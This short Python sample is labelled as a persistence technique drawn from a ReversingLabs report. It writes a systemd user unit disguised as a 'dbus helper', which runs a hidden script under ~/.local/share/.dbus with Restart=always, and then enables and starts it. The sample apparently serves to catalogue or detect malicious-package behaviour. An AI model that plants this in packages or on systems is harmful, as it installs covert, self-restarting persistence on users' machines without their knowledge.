# technique: systemd user unit written and enabled
# class: persistence
# source: ReversingLabs, Linux backdoors installed as systemd services by malicious packages
# declares: fs-write, subprocess
import os
import subprocess

UNIT = """[Unit]
Description=dbus helper
[Service]
ExecStart=/usr/bin/python3 %h/.local/share/.dbus/helper.py
Restart=always
[Install]
WantedBy=default.target
"""


def install_service():
    d = os.path.expanduser("~/.config/systemd/user")
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "dbus-helper.service"), "w") as fh:
        fh.write(UNIT)
    subprocess.run(["systemctl", "--user", "enable", "--now", "dbus-helper.service"])
